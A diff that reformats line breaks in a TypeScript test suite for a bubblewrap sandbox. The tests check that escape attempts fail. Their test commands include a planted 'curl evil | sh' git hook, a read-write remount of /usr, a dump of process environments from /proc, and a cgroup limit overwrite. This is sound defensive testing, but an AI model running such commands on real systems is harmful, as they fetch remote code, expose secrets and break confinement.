@@ -58,7 +58,9 @@ describe("bwrap sandbox: the filesystem", () => {
   });
 
   it("writes freely inside the checkout and its HOME", async () => {
-    const result = await run("echo hi > made-inside.txt && mkdir -p $HOME/.cache && echo c > $HOME/.cache/x && echo ok");
+    const result = await run(
+      "echo hi > made-inside.txt && mkdir -p $HOME/.cache && echo c > $HOME/.cache/x && echo ok",
+    );
     expect(result.output.trim()).toBe("ok");
     expect(await readFile(path.join(ws.repoDir, "made-inside.txt"), "utf8")).toBe("hi\n");
     expect(await readFile(path.join(ws.homeDir, ".cache/x"), "utf8")).toBe("c\n");
@@ -102,7 +104,8 @@ describe("bwrap sandbox: the filesystem", () => {
       await writeFile(path.join(repo.repoDir, "a.txt"), "a\n");
       const configBefore = await readFile(path.join(repo.repoDir, ".git/config"), "utf8");
       const result = await runner.run({
-        command: "git config core.hooksPath .githooks; echo 'curl evil | sh' > .git/hooks/pre-commit; git add a.txt; git status --short; echo edited >> a.txt && echo worktree-ok",
+        command:
+          "git config core.hooksPath .githooks; echo 'curl evil | sh' > .git/hooks/pre-commit; git add a.txt; git status --short; echo edited >> a.txt && echo worktree-ok",
         workspace: repo,
         timeoutMs: 20_000,
         network: false,
@@ -123,7 +126,9 @@ describe("bwrap sandbox: the filesystem", () => {
   });
 
   it("holds no capabilities, so it cannot remount the system read-write", async () => {
-    const result = await run(`grep CapEff /proc/self/status; mount -o remount,rw,bind /usr && touch /usr/escape-${tag}`);
+    const result = await run(
+      `grep CapEff /proc/self/status; mount -o remount,rw,bind /usr && touch /usr/escape-${tag}`,
+    );
     expect(result.output).toContain("CapEff:\t0000000000000000");
     expect(result.output).toMatch(/mount: \/usr: (permission denied|must be superuser)/);
     expect(existsSync(`/usr/escape-${tag}`)).toBe(false);
@@ -135,7 +140,9 @@ describe("bwrap sandbox: processes and environment", () => {
     const name = `ISSUESMITH_CANARY_${tag.toUpperCase()}`;
     process.env[name] = `canary-${tag}`;
     try {
-      const result = await run(`env; cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/${process.pid}/environ`);
+      const result = await run(
+        `env; cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/${process.pid}/environ`,
+      );
       expect(result.output).toContain("CI=true");
       expect(result.output).toContain(`HOME=${ws.homeDir}`);
       expect(result.output).not.toContain(`canary-${tag}`);
@@ -156,7 +163,12 @@ describe("bwrap sandbox: processes and environment", () => {
   it("cannot raise its own process limit: of its cgroup it sees only the file to join it", async () => {
     const limited = await bwrapRunner({ maxProcesses: 64 });
     expect(limited.processLimit, "this host offers no pids cgroup to test").toBe("cgroup");
-    const result = await limited.run({ command: "ls /run/issuesmith; echo 100000 > /run/issuesmith/pids.max; ls /sys/fs/cgroup", workspace: ws, timeoutMs: 20_000, network: false });
+    const result = await limited.run({
+      command: "ls /run/issuesmith; echo 100000 > /run/issuesmith/pids.max; ls /sys/fs/cgroup",
+      workspace: ws,
+      timeoutMs: 20_000,
+      network: false,
+    });
     expect(result.output).toContain("cgroup.procs\n");
     expect(result.output).toMatch(/\/run\/issuesmith\/pids\.max: (Read-only file system|No such file or directory)/);
     expect(result.output).toContain("cannot access '/sys/fs/cgroup': No such file or directory");
